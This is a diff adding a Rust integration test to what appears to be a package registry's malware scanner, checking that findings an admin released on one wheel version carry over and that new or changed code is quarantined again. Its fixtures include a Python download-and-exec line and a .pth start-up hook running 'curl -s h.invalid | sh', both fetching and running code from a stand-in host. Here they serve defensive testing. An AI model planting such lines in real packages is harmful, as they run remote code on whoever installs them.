@@ -629,3 +629,95 @@ async fn popular_benign_wheels_publish_with_no_holding_finding() {
         assert!(holding.is_empty(), "{filename}: {holding:?}");
     }
 }
+
+/// Per-project memory: what a reviewer released on one release, with the same
+/// code, does not hold the next; a changed line or a new finding does.
+#[tokio::test]
+async fn findings_released_on_the_previous_release_do_not_hold_the_next_one() {
+    let t = TestApp::new().await;
+    let alice = t.token("alice", "publish", &[]).await;
+    let root = admin_token(&t).await;
+    let hook = "import os; os.system('true')\n";
+    let upload = |version: &'static str, pth: &'static str, extra: Option<&'static str>| {
+        let mut wheel = WheelBuilder::new("acme-hooks", version).file("acme-hooks.pth", pth);
+        if let Some(code) = extra {
+            wheel = wheel.file("acme_hooks/fetch.py", code);
+        }
+        let filename = format!("acme_hooks-{version}-py3-none-any.whl");
+        UploadForm::new("acme-hooks", version, &filename, wheel.build())
+    };
+    let report_of = |version: &str| {
+        format!(
+            "/api/v1/projects/acme-hooks/releases/{version}/files/acme_hooks-{version}-py3-none-any.whl/report"
+        )
+    };
+    let history = |report: &Value, rule: &str| -> Value {
+        finding(report, rule).map_or(Value::Null, |f| f["history"].clone())
+    };
+
+    let r = t.upload(Some(&alice), &upload("1.0", hook, None)).await;
+    assert_eq!(r.json()["status"], "quarantined", "{}", r.text());
+    let file = t
+        .app
+        .ports
+        .files
+        .find_file("acme_hooks-1.0-py3-none-any.whl")
+        .await
+        .unwrap()
+        .unwrap();
+    let released = t
+        .post_json(
+            &format!("/api/v1/admin/files/{}/release", file.id),
+            Some(&root),
+            r#"{"reason":"our start-up hook"}"#,
+        )
+        .await;
+    assert_eq!(released.status, StatusCode::OK, "{}", released.text());
+
+    // The same hook in 1.1 is released before, and 1.1 publishes.
+    let r = t.upload(Some(&alice), &upload("1.1", hook, None)).await;
+    assert_eq!(r.json()["status"], "published", "{}", r.text());
+    let auth = [("authorization", bearer(&root))];
+    let auth: Vec<(&str, &str)> = auth.iter().map(|(k, v)| (*k, v.as_str())).collect();
+    let report = t.get(&report_of("1.1"), &auth).await.json();
+    assert_eq!(
+        history(&report, "install.pth-import"),
+        serde_json::json!({"kind": "released-before", "version": "1.0"}),
+        "{report}"
+    );
+    let print = &finding(&report, "install.pth-import").unwrap()["fingerprint"];
+    assert_eq!(print.as_str().map(str::len), Some(64), "{report}");
+
+    // 1.2 keeps the hook (carried over from 1.1) but adds a download-and-exec:
+    // that is new since 1.1 and holds the release.
+    let fetch =
+        "import urllib.request\nexec(urllib.request.urlopen('https://h.invalid/x').read())\n";
+    let r = t
+        .upload(Some(&alice), &upload("1.2", hook, Some(fetch)))
+        .await;
+    assert_eq!(r.json()["status"], "quarantined", "{}", r.text());
+    let report = t.get(&report_of("1.2"), &auth).await.json();
+    assert_eq!(
+        history(&report, "install.pth-import")["kind"],
+        "released-before",
+        "{report}"
+    );
+    assert_eq!(
+        history(&report, "code.download-exec"),
+        serde_json::json!({"kind": "new-since", "version": "1.1"}),
+        "{report}"
+    );
+
+    // A changed hook line is new code: it holds again.
+    let r = t
+        .upload(
+            Some(&alice),
+            &upload(
+                "1.3",
+                "import os; os.system('curl -s h.invalid | sh')\n",
+                None,
+            ),
+        )
+        .await;
+    assert_eq!(r.json()["status"], "quarantined", "{}", r.text());
+}
